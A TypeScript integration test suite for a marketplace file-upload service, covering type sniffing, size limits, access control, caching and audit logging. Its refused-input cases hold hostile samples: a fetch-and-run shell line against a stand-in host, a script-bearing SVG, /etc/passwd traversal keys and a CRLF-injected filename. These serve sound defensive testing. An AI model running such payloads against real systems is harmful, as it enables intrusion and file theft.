import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { get } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { attachFiles, fileMeta, MAX_FILE_BYTES } from '@market/contracts';
import { assertionFor } from '@market/shared/testing';
import { checkAnswer, checkedFetch, api, internalClientAs, mintToken, newAdmin, startStack, type Caller, type Stack } from '@market/testkit';
import { v7 as uuidv7 } from 'uuid';

const userToken = (sub: string) => mintToken('user', sub);

// Smallest well-formed files of each accepted type.
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);
const JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////' +
    '////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
  'base64',
);
const WEBP = Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/MediaBox[0 0 3 3]/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);

/** A real PNG followed by padding, `size` bytes in all. */
function pngOfSize(size: number): Buffer {
  const bytes = Buffer.alloc(size);
  PNG.copy(bytes);
  return bytes;
}

const KEY_PATTERN = /^(listing|handoff|dispute|realname|avatar)\/\d{4}\/\d{2}\/[0-9a-f-]{36}\.(jpg|png|webp|pdf)$/;

interface Part {
  bytes: Buffer;
  filename: string;
  type?: string;
}

describe('files service through the gateway', () => {
  let stack: Stack;
  let backOffice: Caller;
  let client: ReturnType<typeof api>;
  let storageDir: string;
  const owner = uuidv7();
  const stranger = uuidv7();
  const partyOfOrder = uuidv7();

  async function upload(
    token: string | undefined,
    file: Part | undefined,
    fields: Record<string, string> = {},
    extraFiles: Record<string, Part> = {},
  ) {
    const form = new FormData();
    for (const [name, value] of Object.entries(fields)) form.append(name, value);
    if (file) form.append('file', new Blob([file.bytes], { type: file.type ?? 'application/octet-stream' }), file.filename);
    for (const [name, part] of Object.entries(extraFiles)) form.append(name, new Blob([part.bytes]), part.filename);
    const res = await checkedFetch(`${stack.url}/api/files/upload`, {
      method: 'POST',
      headers: token ? { authorization: `Bearer ${token}` } : {},
      body: form,
    });
    return { status: res.status, body: (await res.json()) as any };
  }

  async function read(key: string, token?: string, headers: Record<string, string> = {}, admin = false) {
    const prefix = admin ? '/api/admin/files/object' : '/api/files/object';
    const res = await checkedFetch(`${stack.url}${prefix}?key=${encodeURIComponent(key)}`, {
      headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers },
    });
    return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
  }

  /** A conditional read made with node:http, which sends only the headers given (fetch() adds `Cache-Control: no-cache`). */
  function revalidate(key: string, headers: Record<string, string>) {
    return new Promise<{ status: number; etag: string | undefined; length: number }>((resolve, reject) => {
      const url = `${stack.url}/api/files/object?key=${encodeURIComponent(key)}`;
      get(url, { headers }, (res) => {
        let length = 0;
        res.on('data', (chunk: Buffer) => (length += chunk.length));
        res.on('end', () => {
          const answer = { status: res.statusCode!, etag: res.headers.etag, length };
          checkAnswer({ method: 'GET', url, status: answer.status, contentType: res.headers['content-type'] ?? null, text: undefined }).then(
            () => resolve(answer),
            reject,
          );
        });
      }).on('error', reject);
    });
  }

  async function uploaded(scene: string, part: Part, sub = owner): Promise<string> {
    const res = await upload(userToken(sub), part, { scene });
    expect(res.status).toBe(201);
    return res.body.key;
  }

  const incoming = () => readdirSync(path.join(storageDir, '.incoming'));
  const fileRows = async () =>
    Number((await stack.services.files!.ctx.db.query('select count(*)::int as n from files'))[0].n);

  beforeAll(async () => {
    storageDir = mkdtempSync(path.join(tmpdir(), 'files-test-'));
    stack = await startStack({ services: ['files', 'admin'], serviceEnv: { files: { FILES_STORAGE_DIR: storageDir } } });
    client = api(stack.url);
    backOffice = await newAdmin(stack, ['customer_service']);
  });
  afterAll(async () => {
    await stack?.stop();
    rmSync(storageDir, { recursive: true, force: true });
  });
  afterEach(() => {
    expect(incoming()).toEqual([]);
  });

  it('accepts a JPG, PNG, WebP and PDF, judged by their bytes, under a generated key', async () => {
    const cases = [
      { part: { bytes: JPEG, filename: 'photo.jpeg', type: 'image/jpeg' }, type: 'image/jpeg', ext: 'jpg' },
      { part: { bytes: PNG, filename: 'shot.bin', type: 'application/octet-stream' }, type: 'image/png', ext: 'png' },
      { part: { bytes: WEBP, filename: 'pic.png', type: 'image/png' }, type: 'image/webp', ext: 'webp' },
      { part: { bytes: PDF, filename: '../../contract.pdf', type: 'text/plain' }, type: 'application/pdf', ext: 'pdf' },
    ];
    for (const { part, type, ext } of cases) {
      const res = await upload(userToken(owner), part);
      expect(res.status).toBe(201);
      expect(res.body).toEqual({
        key: expect.stringMatching(KEY_PATTERN),
        url: `/api/files/object?key=${encodeURIComponent(res.body.key)}`,
        content_type: type,
        size: part.bytes.length,
        scene: 'listing',
      });
      expect(res.body.key.startsWith('listing/')).toBe(true);
      expect(res.body.key.endsWith(`.${ext}`)).toBe(true);
    }
  });

  it('refuses bytes that are not JPG/PNG/WebP/PDF with 415, whatever the name or declared type', async () => {
    const before = await fileRows();
    const refused: Part[] = [
      { bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), filename: 'avatar.png', type: 'image/png' },
      { bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), filename: 'x.jpg', type: 'image/jpeg' },
      { bytes: Buffer.from('just some words\n'), filename: 'notes.txt', type: 'text/plain' },
      { bytes: Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), filename: 'scan.pdf', type: 'application/pdf' },
      { bytes: Buffer.alloc(0), filename: 'empty.png', type: 'image/png' },
    ];
    for (const part of refused) {
      const res = await upload(userToken(owner), part);
      expect(res.status).toBe(415);
      expect(res.body.code).toBe('UNSUPPORTED_MEDIA_TYPE');
    }
    expect(await fileRows()).toBe(before);
  });

  it('accepts a file of exactly 10 MB and refuses one byte more with 413', async () => {
    const exact = await upload(userToken(owner), { bytes: pngOfSize(MAX_FILE_BYTES), filename: 'big.png' });
    expect(exact.status).toBe(201);
    expect(exact.body.size).toBe(10 * 1024 * 1024);

    const before = await fileRows();
    const over = await upload(userToken(owner), { bytes: pngOfSize(MAX_FILE_BYTES + 1), filename: 'bigger.png' });
    expect(over.status).toBe(413);
    expect(over.body.code).toBe('PAYLOAD_TOO_LARGE');
    expect(await fileRows()).toBe(before);
  });

  it('refuses malformed uploads with 400 and anonymous or admin callers with 401', async () => {
    const png = { bytes: PNG, filename: 'a.png' };
    const missing = await upload(userToken(owner), undefined, { scene: 'listing' });
    expect(missing.status).toBe(400);
    expect(missing.body.code).toBe('VALIDATION_FAILED');
    expect(missing.body.errors).toEqual([expect.objectContaining({ path: 'file' })]);

    const badScene = await upload(userToken(owner), png, { scene: 'secret' });
    expect(badScene.status).toBe(400);
    expect(badScene.body.errors[0].path).toBe('scene');

    const unknownField = await upload(userToken(owner), png, { note: 'hi' });
    expect(unknownField.status).toBe(400);
    const fileAsText = await upload(userToken(owner), png, { file: 'text' });
    expect(fileAsText.status).toBe(400);
    const otherPart = await upload(userToken(owner), undefined, {}, { picture: png });
    expect(otherPart.status).toBe(400);
    const twoFiles = await upload(userToken(owner), png, {}, { file: png });
    expect(twoFiles.status).toBe(400);
    const tooManyFields = await upload(userToken(owner), png, { a: '1', b: '2', c: '3', d: '4', e: '5', f: '6' });
    expect(tooManyFields.status).toBe(400);
    const json = await client.post('/api/files/upload', { scene: 'listing' }, userToken(owner));
    expect(json.status).toBe(400);

    for (const [type, body] of [
      ['multipart/form-data', 'no boundary'],
      ['multipart/form-data; boundary=xyz', 'not multipart at all'],
      ['multipart/form-data; boundary=xyz', '--xyz\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\ncut off'],
      ['multipart/form-data; boundary=xyz', '--xyz\r\nno header here\r\n\r\nabc\r\n--xyz--'],
    ]) {
      const broken = await client.raw('POST', '/api/files/upload', {
        headers: { authorization: `Bearer ${userToken(owner)}`, 'content-type': type! },
        body,
      });
      expect(broken.status).toBe(400);
    }

    const anonymous = await upload(undefined, png);
    expect(anonymous.status).toBe(401);
    const admin = await upload(backOffice.token, png);
    expect(admin.status).toBe(401);
  });

  it('serves a public file to anyone with its type, nosniff, a lasting cache and an ETag', async () => {
    const key = await uploaded('avatar', { bytes: PNG, filename: 'me.png' });
    const res = await read(key);
    expect(res.status).toBe(200);
    expect(res.bytes.equals(PNG)).toBe(true);
    expect(res.headers.get('content-type')).toBe('image/png');
    expect(res.headers.get('content-length')).toBe(String(PNG.length));
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(res.headers.get('content-disposition')).toBe('inline; filename=me.png');
    const etag = res.headers.get('etag')!;
    expect(etag).toMatch(/^"[0-9a-f]{64}"$/);

    expect(await revalidate(key, { 'if-none-match': etag })).toEqual({ status: 304, etag, length: 0 });
    expect((await revalidate(key, { 'if-none-match': `"other", W/${etag}` })).status).toBe(304);
    expect((await revalidate(key, { 'if-none-match': '"other"' })).status).toBe(200);
    // `no-cache` asks caches to revalidate with the origin; the origin validating answers 304 all the same (ADR 0044)
    expect(await revalidate(key, { 'if-none-match': etag, 'cache-control': 'no-cache' })).toEqual({ status: 304, etag, length: 0 });
    expect((await read(key, userToken(stranger))).status).toBe(200);
  });

  it('sends a PDF as an attachment with a safe file name', async () => {
    const key = await uploaded('listing', { bytes: PDF, filename: 'docs/租号 "合同"\r\n.html' });
    const res = await read(key);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    const disposition = res.headers.get('content-disposition')!;
    expect(disposition).toBe(`attachment; filename="__ __.pdf"; filename*=UTF-8''${encodeURIComponent('租号 合同.pdf')}`);
  });

  it('shows a private file only to its uploader and the users it is attached to; 404 to anyone else', async () => {
    const key = await uploaded('handoff', { bytes: JPEG, filename: 'evidence.jpg' });

    const strangerRead = await read(key, userToken(stranger));
    expect(strangerRead.status).toBe(404);
    expect(strangerRead.bytes.toString()).toContain('NOT_FOUND');
    expect((await read(key)).status).toBe(404);
    expect((await read(key, userToken(partyOfOrder))).status).toBe(404);

    const own = await read(key, userToken(owner));
    expect(own.status).toBe(200);
    expect(own.bytes.equals(JPEG)).toBe(true);
    expect(own.headers.get('cache-control')).toBe('private, no-store');
    expect(own.headers.get('content-disposition')).toMatch(/^inline; /);

    const internal = internalClientAs(stack, 'orders');
    const grant = { keys: [key], biz_type: 'order', biz_id: uuidv7(), reader_ids: [partyOfOrder] };
    // Orders may repeat the call (a retry, two parties at once): each answer is the same, nothing doubles.
    const answers = await Promise.all([1, 2, 3].map(() => internal.call(attachFiles, { body: grant })));
    expect(answers).toEqual([{ attached: 1 }, { attached: 1 }, { attached: 1 }]);
    const rows = await stack.services.files!.ctx.db.query('select reader_id from attachments where key = $1', [key]);
    expect(rows).toEqual([{ reader_id: partyOfOrder }]);

    const partyRead = await read(key, userToken(partyOfOrder));
    expect(partyRead.status).toBe(200);
    expect(partyRead.bytes.equals(JPEG)).toBe(true);
    expect((await read(key, userToken(stranger))).status).toBe(404);
  });

  it('refuses to attach files that do not exist, attaching none of the batch', async () => {
    const key = await uploaded('dispute', { bytes: PNG, filename: 'proof.png' });
    const missing = 'dispute/2026/11/0193a1b2-7c3d-7e4f-8a9b-0c1d2e3f4a5b.png';
    const internal = internalClientAs(stack, 'orders');
    await expect(
      internal.call(attachFiles, { body: { keys: [key, missing, '../x'], biz_type: 'dispute', biz_id: 'd1', reader_ids: [stranger] } }),
    ).rejects.toMatchObject({ status: 400, code: 'VALIDATION_FAILED', details: { errors: [{ path: 'keys.1' }, { path: 'keys.2' }] } });
    await expect(
      internal.call(attachFiles, { body: { keys: [key], biz_type: 'dispute', biz_id: 'd1', reader_ids: ['not-a-uuid'] } }),
    ).rejects.toMatchObject({ status: 400 });
    expect((await read(key, userToken(stranger))).status).toBe(404);
  });

  it('answers 404 to keys that are not generated keys, such as path traversal', async () => {
    await uploaded('listing', { bytes: PNG, filename: 'a.png' });
    const keys = [
      '../../etc/passwd',
      '/etc/passwd',
      'listing/../../../../etc/passwd',
      'listing/2026/11/../../../.incoming/x',
      '.incoming',
      'listing/2026/11/0193a1b2-7c3d-7e4f-8a9b-0c1d2e3f4a5b.png/../../../../../etc/passwd',
      'LISTING/2026/11/0193a1b2-7c3d-7e4f-8a9b-0c1d2e3f4a5b.png',
      'listing/2026/11/0193a1b2-7c3d-7e4f-8a9b-0c1d2e3f4a5b.png',
    ];
    for (const key of keys) {
      expect((await read(key, userToken(owner))).status).toBe(404);
      expect((await read(key, backOffice.token, {}, true)).status).toBe(404);
    }
    expect((await client.get('/api/files/object')).status).toBe(400);
  });

  it('lets the back office read any file and audits every read of a private one', async () => {
    const privateKey = await uploaded('realname', { bytes: PNG, filename: 'id-card.png' });
    const publicKey = await uploaded('listing', { bytes: PNG, filename: 'cover.png' });
    const adminId = backOffice.id;

    const res = await read(privateKey, backOffice.token, {}, true);
    expect(res.status).toBe(200);
    expect(res.bytes.equals(PNG)).toBe(true);
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect((await read(publicKey, backOffice.token, {}, true)).status).toBe(200);
    expect((await read(privateKey, userToken(owner), {}, true)).status).toBe(401);

    const audits: Array<{ payload: { data: Record<string, unknown> } }> = await stack.services.files!.ctx.db.query(
      "select payload from outbox where type = 'audit.recorded'",
    );
    const forPrivate = audits.filter((a) => a.payload.data.biz_id === privateKey);
    expect(forPrivate).toHaveLength(1);
    expect(forPrivate[0]!.payload.data).toMatchObject({
      actor_type: 'admin',
      actor_id: adminId,
      action: 'file.read_private',
      biz_type: 'file',
      result: 'success',
    });
    expect(audits.filter((a) => a.payload.data.biz_id === publicKey)).toHaveLength(0);
  });

  it('tells other services a file’s metadata on the internal route, and nobody else', async () => {
    const key = await uploaded('dispute', { bytes: WEBP, filename: 'chat.webp' });
    const internal = internalClientAs(stack, 'orders');
    const meta = await internal.call(fileMeta, { query: { key } });
    expect(meta).toEqual({
      key,
      owner_id: owner,
      scene: 'dispute',
      content_type: 'image/webp',
      size: WEBP.length,
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      created_at: expect.stringMatching(/Z$/),
    });
    await expect(internal.call(fileMeta, { query: { key: 'dispute/2026/11/nope.png' } })).rejects.toMatchObject({ status: 404 });
    await expect(internal.call(fileMeta)).rejects.toMatchObject({ status: 400 });
    await expect(internalClientAs(stack, 'catalog').call(fileMeta, { query: { key } })).resolves.toMatchObject({ key });
    await expect(internalClientAs(stack, 'admin').call(fileMeta, { query: { key } })).rejects.toMatchObject({ status: 403, code: 'FORBIDDEN' });

    const asUser = await fetch(`${stack.services.files!.url}/internal/files/meta?key=${encodeURIComponent(key)}`, {
      headers: { 'x-internal-assertion': await assertionFor({ kind: 'user', sub: owner, sid: 's', ip: null }, { service: 'files', method: 'GET', path: '/internal/files/meta' }) },
    });
    expect(asUser.status).toBe(404);
    const asOrders = await fetch(`${stack.services.files!.url}/internal/files/meta?key=${encodeURIComponent(key)}`, {
      headers: { 'x-internal-assertion': await assertionFor({ kind: 'service', sub: 'orders', ip: null }, { service: 'files', method: 'GET', path: '/internal/files/meta' }) },
    });
    expect(asOrders.status).toBe(200);
    expect((await client.get(`/internal/files/meta?key=${encodeURIComponent(key)}`)).status).toBe(404);
  });
});
